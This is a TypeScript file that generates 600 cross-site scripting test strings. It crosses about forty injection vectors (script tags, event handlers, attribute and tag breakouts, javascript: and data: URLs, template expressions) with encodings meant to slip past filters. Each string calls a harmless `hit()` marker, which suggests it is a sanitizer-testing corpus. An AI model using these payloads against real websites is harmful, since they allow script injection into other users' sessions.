// Texts that run code if a page inserts them as markup, script or link. Each calls `hit()`.

const CALL = 'hit()'

/** Kinds of injection: markup, leaving an attribute, leaving a script, links, templates. */
const WAYS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<body onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
  `<object data="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button>go</button></form>`,
  `<a href="javascript:${CALL}">go</a>`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${CALL})}">`,
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `' autofocus onfocus='${CALL}' x='`,
  `\`><svg/onload=${CALL}>`,
  `</script><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</title><img src=x onerror=${CALL}>`,
  `</textarea><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `javascript:${CALL}`,
  `javascript://x%0a${CALL}`,
  `data:text/html,<script>opener.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `vbscript:${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `';${CALL};'`,
] as const

/** Encodings that hide an injection from filters, and that browsers decode in some context. */
const DISGUISES: readonly ((way: string) => string)[] = [
  (way) => way,
  (way) => way.toUpperCase().replace(/HIT\(\)/g, CALL),
  (way) =>
    [...way]
      .map((letter, at) => (at % 2 ? letter.toUpperCase() : letter))
      .join('')
      .replace(/hit\(\)/gi, CALL),
  (way) => ` \t\n${way}`,
  (way) => `\u0001\u00a0${way}`,
  (way) => way.replace(/script/g, 'scr\tipt').replace(/javascript/g, 'java\nscript'),
  (way) => way.replace(/j(?=avascript)/g, '\r\nj').replace(/</g, '<\u0000'),
  (way) => way.replace(/script/g, 'scr&#105;pt').replace(/</g, '&lt;'),
  (way) => way.replace(/:/g, '&colon;').replace(/\(/g, '&lpar;').replace(/\)/g, '&rpar;'),
  (way) => encodeURI(way),
  (way) => way.replace(/[<>"'():]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (way) => way.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (way) => `https://shop.example/${way}`,
  (way) => `{title}${way}$&$1{n}`,
  (way) => way.repeat(3),
  (way) => `"/>'/>${way}`,
  (way) => `-->]]></title></textarea></style></script>${way}`,
]

/** 600 payloads: each injection in each encoding that changes it. */
export const PAYLOADS: readonly string[] = [
  ...new Set(DISGUISES.flatMap((disguise) => WAYS.map(disguise))),
].slice(0, 600)
